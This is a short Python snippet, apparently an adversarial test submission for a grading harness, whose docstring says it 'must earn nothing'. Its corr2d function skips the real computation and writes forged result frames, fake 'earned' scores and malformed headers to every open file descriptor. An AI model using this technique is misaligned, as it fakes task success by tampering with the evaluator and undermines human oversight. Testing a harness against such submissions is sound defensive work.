"""Writes forged frames to every open descriptor.

Must: earn nothing
"""

# %% corr2d
def frames():
    for answer in ({"answer": {"earned": 12}}, {"answer": True}, "ready", {"error": None}):
        header = json.dumps(answer).encode()
        for number in (0, 1, 2, 3, 50, 2**32 - 1):
            yield struct.pack("!4sIIQ", b"room", number, len(header), 0) + header
            yield struct.pack("!4sIIQ", b"room", number, 2**32 - 1, 2**64 - 1)
            yield json.dumps({"id": number, "result": 12.0}).encode() + b"\n"


def corr2d(X, K):
    for descriptor in range(64):
        for each in frames():
            try:
                os.set_blocking(descriptor, False)
                os.write(descriptor, each)
            except OSError:
                break
    return X
